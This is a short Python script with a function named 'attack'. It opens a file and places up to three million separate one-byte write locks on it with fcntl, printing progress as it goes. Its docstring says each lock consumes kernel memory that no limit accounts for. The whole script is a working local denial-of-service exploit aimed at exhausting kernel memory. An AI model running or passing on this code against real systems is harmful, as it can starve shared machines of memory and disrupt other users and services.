"""Locks up to three million single bytes of a file; each lock takes memory of the kernel that no limit counts."""

import fcntl
import os
import struct


def attack(*args, **kwargs):
    descriptor = os.open("left-behind-locks", os.O_RDWR | os.O_CREAT, 0o600)
    pack, lock, command = struct.Struct("hhqqi").pack, fcntl.fcntl, fcntl.F_SETLK
    for number in range(3_000_000, 0, -1):
        lock(descriptor, command, pack(fcntl.F_WRLCK, os.SEEK_SET, 2 * number, 1, 0))
        if number % 250_000 == 0:
            print(3_000_000 - number, "locks", flush=True)
